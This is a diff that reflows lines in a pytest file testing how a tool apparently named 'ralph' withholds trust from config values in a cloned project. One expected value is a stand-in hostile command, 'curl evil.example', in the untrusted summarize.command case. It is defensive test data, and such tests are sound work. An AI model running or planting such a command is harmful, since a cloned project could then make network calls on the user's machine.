@@ -41,7 +41,9 @@ def trusting(root: Path) -> None:
 def test_a_cloned_project_runs_and_sends_nothing(project: Path) -> None:
     found = loaded(project)
     assert (found.config.summarize.command, found.config.embedding.url) == ("", "")
-    assert [(str(each.place), each.key, each.value, each.trusted) for each in found.trusted_values] == [
+    assert [
+        (str(each.place), each.key, each.value, each.trusted) for each in found.trusted_values
+    ] == [
         ("ralph.yml:2", "summarize.command", "curl evil.example", False),
         ("ralph.yml:4", "embedding.url", "https://example.com/v1", False),
     ]
@@ -113,7 +115,10 @@ def test_the_users_own_config_and_the_environment_need_no_trust(project: Path) -
     file.parent.mkdir(parents=True)
     file.with_name("config.yml").write_text("summarize: {command: mine}\n", encoding="utf-8")
     assert load(project, env=env).config.summarize.command == "mine"
-    assert load(project, env={**env, "RALPH_SUMMARIZE_COMMAND": "now"}).config.summarize.command == "now"
+    assert (
+        load(project, env={**env, "RALPH_SUMMARIZE_COMMAND": "now"}).config.summarize.command
+        == "now"
+    )
 
 
 def test_where_ralph_records_is_never_a_projects_word(project: Path) -> None:
@@ -124,7 +129,12 @@ def test_where_ralph_records_is_never_a_projects_word(project: Path) -> None:
     assert found.warnings == (
         "ralph.yml:2: capture.everywhere is ignored here: a project must not decide this for its users",
     )
-    assert load(project, env={**env_of(project), "RALPH_CAPTURE_EVERYWHERE": "1"}).config.capture.everywhere is True
+    assert (
+        load(
+            project, env={**env_of(project), "RALPH_CAPTURE_EVERYWHERE": "1"}
+        ).config.capture.everywhere
+        is True
+    )
 
 
 def test_the_trust_file_is_for_its_owner_alone_and_holds_no_value(project: Path) -> None:
@@ -133,7 +143,9 @@ def test_the_trust_file_is_for_its_owner_alone_and_holds_no_value(project: Path)
     assert file is not None
     assert file.stat().st_mode & 0o777 == 0o600
     assert "evil" not in file.read_text(encoding="utf-8")
-    assert {one.root for one in project_files.trusted_values(env_of(project))} == {os.path.realpath(project)}
+    assert {one.root for one in project_files.trusted_values(env_of(project))} == {
+        os.path.realpath(project)
+    }
 
 
 def test_xdg_config_home_is_where_it_is_kept(project: Path) -> None:
@@ -156,8 +168,12 @@ def test_revoked_trust_is_gone_for_this_project_alone(project: Path) -> None:
     assert loaded(other).config.summarize.command == "make summary"
 
 
-@pytest.mark.parametrize("text", ["nonsense", "{}", '{"trusted": 5}', '{"trusted": [{"root": "/"}]}', "[" * 9000])
-def test_a_trust_file_that_is_not_ours_trusts_nothing_and_is_not_overwritten(project: Path, text: str) -> None:
+@pytest.mark.parametrize(
+    "text", ["nonsense", "{}", '{"trusted": 5}', '{"trusted": [{"root": "/"}]}', "[" * 9000]
+)
+def test_a_trust_file_that_is_not_ours_trusts_nothing_and_is_not_overwritten(
+    project: Path, text: str
+) -> None:
     file = trust_file(env_of(project))
     assert file is not None
     file.parent.mkdir(parents=True)
